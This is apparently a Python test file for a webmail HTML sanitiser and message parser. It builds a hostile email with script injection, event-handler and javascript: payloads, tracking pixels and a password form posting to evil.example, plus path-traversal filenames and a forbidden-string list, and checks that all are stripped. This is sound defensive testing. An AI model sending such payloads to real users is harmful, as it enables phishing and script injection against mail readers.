"""Reading raw messages (ent.webmail.rendering): headers, bodies, attachments, and the HTML
sanitiser's allow-lists against a hostile mail (the browser test checks the same in chromium)."""

from __future__ import annotations

import base64
import email.policy
from email.message import EmailMessage

from ent.webmail import rendering

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

HOSTILE_HTML = """<html><head><title>Titre caché</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) }</style>
<script>window.pwned = 1</script></head>
<body onload="window.pwned = 2">
<p id="ok" style="color: #123456; position: fixed; top: 0; background-image: url(https://evil.example/c.png)">Bonjour</p>
<div style="width: expression(alert(1)); font-weight: bold">Gras</div>
<a href="javascript:window.pwned=3">piège</a> <a href="https://example.org/page">lien</a>
<a href="data:text/html,<script>alert(1)</script>">data</a>
<img src="https://evil.example/track.png" alt="pixel"> <img src="cid:logo@x" alt="logo">
<img src="x" onerror="window.pwned = 4">
<svg onload="window.pwned = 5"><circle r="5"/></svg>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/steal"><input name="password"><button>Envoyer</button></form>
<table background="https://evil.example/t.png"><tr><td>cellule</td></tr></table>
</body></html>"""


def hostile_mail() -> bytes:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@evil.example>"
    message["To"] = "sophie.germain@etudiant.univ-perp.fr"
    message["Subject"] = "Piège"
    message.set_content("version texte")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    html_part = message.get_payload()[1]
    html_part.add_related(PNG, maintype="image", subtype="png", cid="<logo@x>")
    return message.as_bytes(policy=email.policy.SMTP)


def test_hostile_html_keeps_text_and_loses_everything_active() -> None:
    parsed = rendering.parse(hostile_mail())
    cleaned = rendering.clean_html(parsed, remote_images=False)
    html = cleaned.html.lower()
    for forbidden in (
        "<script", "onload", "onerror", "javascript:", "<meta", "<base", "<link", "<style",
        "@import", "url(", "position", "expression", "<svg", "<iframe", "<object", "<form",
        "<input", "evil.example", "data:text", "titre caché",
    ):  # fmt: skip
        assert forbidden not in html, forbidden
    assert "bonjour" in html and "cellule" in html and "gras" in html
    assert 'style="color:#123456"' in html
    assert 'href="https://example.org/page"' in html
    assert 'target="_blank"' in html and 'rel="noopener noreferrer"' in html
    assert 'src="data:image/png;base64,' in html  # the cid: image, from the message itself
    assert cleaned.remote_images == 1


def test_remote_images_only_once_asked_and_over_https() -> None:
    parsed = rendering.parse(hostile_mail())
    cleaned = rendering.clean_html(parsed, remote_images=True)
    assert 'src="https://evil.example/track.png"' in cleaned.html
    assert cleaned.remote_images == 0
    assert "<script" not in cleaned.html and "url(" not in cleaned.html


def test_headers_bodies_and_attachments() -> None:
    message = EmailMessage()
    message["From"] = "=?utf-8?q?Andr=C3=A9_Weil?= <andre@example.org>"
    message["To"] = "a@example.org, b@example.org"
    message["Cc"] = "c@example.org"
    message["Subject"] = "=?utf-8?q?R=C3=A9sultats?="
    message["Date"] = "Tue, 3 Nov 2026 10:00:00 +0100"
    message["Message-ID"] = "<m1@example.org>"
    message.set_content("Voir https://example.org/notes\n")
    message.add_attachment(b"%PDF-1.4", maintype="application", subtype="pdf", filename="notes.pdf")
    message.add_attachment(
        b"<svg onload=alert(1)>", maintype="image", subtype="svg+xml", filename="../../x.svg"
    )
    parsed = rendering.parse(message.as_bytes())
    assert parsed.sender == "André Weil <andre@example.org>"
    assert parsed.subject == "Résultats"
    assert parsed.date is not None and parsed.date.utcoffset() is not None
    assert parsed.text == "Voir https://example.org/notes\n" and parsed.html is None
    assert [(a.filename, a.content_type, a.size) for a in parsed.attachments] == [
        ("notes.pdf", "application/pdf", 8),
        ("x.svg", "image/svg+xml", 21),
    ]
    assert [rendering.download_type(a.content_type) for a in parsed.attachments] == [
        "application/octet-stream",
        "application/octet-stream",
    ]
    assert rendering.download_type("image/png") == "image/png"
    assert rendering.download_type("text/html") == "application/octet-stream"
    assert rendering.download_type("application/xhtml+xml") == "application/octet-stream"
    assert parsed.addresses("To") == [("", "a@example.org"), ("", "b@example.org")]


def test_malformed_messages_never_raise() -> None:
    for raw in (
        b"",
        b"\x00\xff\xfe garbage",
        b"Subject: =?bogus-charset?q?x?=\r\nFrom: <<<>>>\r\nDate: someday\r\n\r\nbody",
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain;"
        b" charset=nope\r\n\r\n\xe9t\xe9\r\n--x",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64",
    ):
        parsed = rendering.parse(raw)
        rendering.clean_html(parsed, remote_images=False)
        rendering.body_text(parsed)
        assert parsed.date is None or parsed.date.tzinfo is not None


def test_html_to_text_for_quoting() -> None:
    text = rendering.html_to_text("<p>Un &amp; deux</p><p>trois<br>quatre</p><script>x</script>")
    assert text == "Un & deux\ntrois\nquatre"


def test_safe_filename() -> None:
    assert rendering.safe_filename("../../etc/passwd") == "passwd"
    assert rendering.safe_filename('C:\\a\\b"\r\n.txt') == "b.txt"
    assert rendering.safe_filename("..hidden") == "hidden"
